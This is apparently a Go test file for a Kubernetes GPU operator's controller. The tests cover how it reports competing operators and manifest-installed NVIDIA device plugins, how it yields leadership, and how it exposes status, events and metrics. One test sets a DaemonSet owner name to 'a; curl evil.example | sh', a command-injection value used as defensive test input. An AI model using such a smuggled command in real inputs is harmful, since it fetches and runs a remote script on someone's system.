package controller

import (
	"bytes"
	"log/slog"
	"slices"
	"strings"
	"testing"

	"github.com/prometheus/client_golang/prometheus"
	"github.com/prometheus/client_golang/prometheus/testutil"
	"github.com/prometheus/common/expfmt"
	"github.com/stretchr/testify/require"
	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"

	v1 "github.com/gpuready/gpuready/operator/api/v1"
	"github.com/gpuready/gpuready/operator/label"
	"github.com/gpuready/gpuready/operator/leader"
	"github.com/gpuready/gpuready/operator/metrics"
	"github.com/gpuready/gpuready/operator/status"
)

// installed returns the Deployment of an operator of this product.
func installed(namespace string) *appsv1.Deployment {
	return &appsv1.Deployment{ObjectMeta: metav1.ObjectMeta{Namespace: namespace, Name: label.Deployment, Labels: map[string]string{label.PartOf: label.Product}}}
}

func TestStatusReportsAnotherOperatorOnStandby(t *testing.T) {
	w := newWorld(t)
	w.Operator = types.NamespacedName{Namespace: namespace, Name: label.Deployment}
	w.model.setOperator(objectKey(installed(namespace)), sibling)
	w.create(simulated("policy"), simulated("zweite"))
	w.settle()
	contested := func(name string) *metav1.Condition {
		return meta.FindStatusCondition(w.policy(name).Status.Conditions, v1.ConditionContested)
	}
	require.Nil(t, contested("policy"), "it is the only one")

	w.model.setOperator(objectKey(installed("elsewhere")), sibling)
	w.settle()
	for _, name := range []string{"policy", "zweite"} {
		c := contested(name)
		require.NotNil(t, c, name)
		require.Equal(t, status.ReasonAnotherOperator, c.Reason)
		require.Equal(t, "Deployment gpuready/gpuready-operator serves this cluster, and Deployment elsewhere/gpuready-operator stands down; uninstall one of them", c.Message)
	}
	require.Empty(t, w.model.nvidiaOperators, "it is not NVIDIA's")
	require.Empty(t, w.settle())

	w.model.setOperator(objectKey(installed("elsewhere")), none)
	w.settle()
	require.Nil(t, contested("policy"))
}

func TestNothingIsMadeBesideAnotherOperatorsOperands(t *testing.T) {
	w := newWorld(t)
	pod := func(namespace string) *corev1.Pod {
		return &corev1.Pod{ObjectMeta: metav1.ObjectMeta{
			Namespace: namespace, Name: "plugin", Labels: map[string]string{label.PartOf: label.Product}, Finalizers: []string{"example.com/kubelet"},
			OwnerReferences: []metav1.OwnerReference{{Kind: "DaemonSet", Name: "nvidia-device-plugin-daemonset", Controller: new(true)}},
		}}
	}
	w.create(gpuNode("n1"), simulated("policy"))
	p := w.policy("policy")
	p.Status.Namespace = "elsewhere" // where an operator that is gone has served it
	require.NoError(t, w.Status().Update(t.Context(), p))
	w.create(pod("elsewhere"), pod("a-tenants"))
	require.Equal(t, []string{"status policy"}, w.settle())
	p = w.policy("policy")
	require.Equal(t, "elsewhere", p.Status.Namespace)
	ready := meta.FindStatusCondition(p.Status.Conditions, v1.ConditionReady)
	require.Equal(t, status.ReasonAnotherOperator, ready.Reason)
	require.Contains(t, ready.Message, "kubectl -n elsewhere delete daemonsets,services")
	require.Empty(t, w.node("n1").Labels[label.Present])
	require.Empty(t, w.settle())

	// The other operator is back and can manage its operands.
	w.Operator = types.NamespacedName{Namespace: namespace, Name: label.Deployment}
	theirs := objectKey(installed("elsewhere"))
	w.model.setOperator(theirs, standby)
	w.settle()
	require.NoError(t, w.yield(), "without election, there is nobody to yield to")
	w.Elected = true
	for kind, yields := range map[operatorKind]bool{none: false, nvidias: false, sibling: false, standby: true} {
		w.model.setOperator(theirs, kind)
		require.Equal(t, yields, w.yield() != nil)
	}
	w.model.setOperator(theirs, standby)
	w.now = w.now.Add(minRest)
	require.Equal(t, &leader.YieldTo{Namespace: "elsewhere"}, w.run(t.Context()))
	w.Operator.Namespace = "elsewhere" // with operands in a namespace of their own
	require.NoError(t, w.yield(), "nobody yields to himself")
	w.model.setOperator(theirs, none)

	w.deleteObject(pod("elsewhere")) // its node is gone, too, and never says that it has ended
	w.settle()
	require.NotEmpty(t, w.sets(), "what somebody else calls an operand counts for nothing")
	require.Equal(t, namespace, w.policy("policy").Status.Namespace)
	require.Equal(t, "true", w.node("n1").Labels[label.Present])
}

func TestStatusReportsADevicePluginOfTheManifests(t *testing.T) {
	w := newWorld(t)
	pod := func(node string) *corev1.Pod {
		return &corev1.Pod{
			ObjectMeta: metav1.ObjectMeta{
				Namespace: "manifests", Name: "plugin-" + node, Finalizers: []string{"example.com/kubelet"}, Labels: map[string]string{label.PartOf: label.Product, "app": "nvidia-device-plugin-daemonset"},
				OwnerReferences: []metav1.OwnerReference{{Kind: "DaemonSet", Name: "nvidia-device-plugin-daemonset", Controller: new(true)}},
			},
			Spec: corev1.PodSpec{NodeName: node},
		}
	}
	hostile := pod("n1")
	hostile.Name, hostile.OwnerReferences[0].Name = "hostile", "a; curl evil.example | sh"
	w.create(gpuNode("n1"), gpuNode("n2"), simulated("policy"), hostile)
	w.settle()
	require.Nil(t, meta.FindStatusCondition(w.policy("policy").Status.Conditions, v1.ConditionContested))
	w.create(pod("n2"), pod("n1"), pod("without-gpu"))
	w.settle()
	c := meta.FindStatusCondition(w.policy("policy").Status.Conditions, v1.ConditionContested)
	require.NotNil(t, c)
	require.Equal(t, status.ReasonAnotherInstallation, c.Reason)
	require.Contains(t, c.Message, ": DaemonSet manifests/nvidia-device-plugin-daemonset on node n1 (kubectl -n manifests delete daemonsets -l app.kubernetes.io/part-of=gpuready)")
	require.NotEmpty(t, w.sets(), "it is only reported")

	for _, node := range []string{"n1", "n2"} {
		w.deleteObject(pod(node))
	}
	w.settle()
	require.Nil(t, meta.FindStatusCondition(w.policy("policy").Status.Conditions, v1.ConditionContested))
}

// theirDeployment is the Deployment of NVIDIA's operator.
var theirDeployment = types.NamespacedName{Namespace: "gpu-operator", Name: label.NVIDIADeployment}

// serve writes a policy's status as NVIDIA's operator does.
func (w *world) serve(name string, state v1.State) {
	p := w.policy(name)
	p.Status = v1.ClusterPolicyStatus{State: state, Namespace: theirDeployment.Namespace}
	require.NoError(w, w.Status().Update(w.Context(), p))
}

// recorded returns the Events since the last call.
func (w *world) recorded() (all []string) {
	for {
		select {
		case e := <-w.events.Events:
			all = append(all, e)
		default:
			return all
		}
	}
}

// statuses returns the writes of policies' statuses among writes.
func statuses(writes []string) []string {
	return slices.DeleteFunc(writes, func(s string) bool { return !strings.HasPrefix(s, "status ") })
}

func TestPolicyThatNVIDIAsOperatorServesIsNotWritten(t *testing.T) {
	w := newWorld(t)
	registry, log := prometheus.NewRegistry(), &bytes.Buffer{}
	w.Metrics, w.Controller.Log = metrics.New(registry), slog.New(slog.NewTextHandler(log, nil))
	const series = `gpuready_operator_beside_nvidia{deployment="gpu-operator/gpu-operator"} 1`
	exposed := func() string {
		text, err := testutil.CollectAndFormat(registry, expfmt.TypeTextPlain, "gpuready_operator_beside_nvidia")
		require.NoError(t, err)
		return string(text)
	}
	w.model.setOperator(theirDeployment, nvidias)
	w.create(gpuNode("n1"), gpuNode("n2"), simulated("cluster-policy"))
	for i := range 60 {
		w.serve("cluster-policy", []v1.State{v1.Ready, v1.NotReady}[i%2])
		handed := "nobody"
		if i >= 20 && i < 40 {
			handed = label.Product
		}
		w.change("n1", func(n *corev1.Node) { n.Labels[label.HandOver] = handed })
		version := w.policy("cluster-policy").ResourceVersion
		require.Empty(t, statuses(w.settle()))
		require.Equal(t, version, w.policy("cluster-policy").ResourceVersion)
		require.Equal(t, handed == label.Product, w.node("n1").Labels[label.Driver] != "")
	}
	about := func(s string) bool { return !strings.Contains(s, status.ReasonOtherOperator) }
	told := slices.DeleteFunc(w.recorded(), about)
	require.Len(t, told, 1)
	require.Contains(t, told[0], "Deployment gpu-operator/gpu-operator runs and serves this cluster's nodes")
	require.Equal(t, 1, strings.Count(log.String(), "reason="+status.ReasonOtherOperator))
	require.Contains(t, exposed(), series)

	w.model.setOperator(theirDeployment, none)
	require.Contains(t, statuses(w.settle()), "status cluster-policy")
	p := w.policy("cluster-policy")
	require.False(t, p.Status.Foreign())
	require.Equal(t, namespace, p.Status.Namespace)
	require.NotEmpty(t, w.node("n2").Labels[label.Driver])
	require.Contains(t, log.String(), "does not run any more")
	require.NotContains(t, exposed(), series)
	require.Empty(t, w.settle())
}

// NVIDIA's operator serves the oldest policy and writes no other.
func TestOwnPolicyIsToldThatNVIDIAsIsInForce(t *testing.T) {
	w := newWorld(t)
	w.model.setOperator(theirDeployment, nvidias)
	theirs, ours, served := simulated("cluster-policy"), simulated("ours"), simulated("served")
	ours.Labels = map[string]string{label.PartOf: label.Product}
	served.Labels = ours.Labels
	w.create(theirs, ours, served, simulated("somebodys"))
	w.serve("cluster-policy", v1.Ready)
	w.serve("served", v1.Ready)
	require.Equal(t, []string{"status ours"}, w.settle())
	require.Equal(t, v1.Ignored, w.policy("ours").Status.State)
	require.Empty(t, w.settle())
}
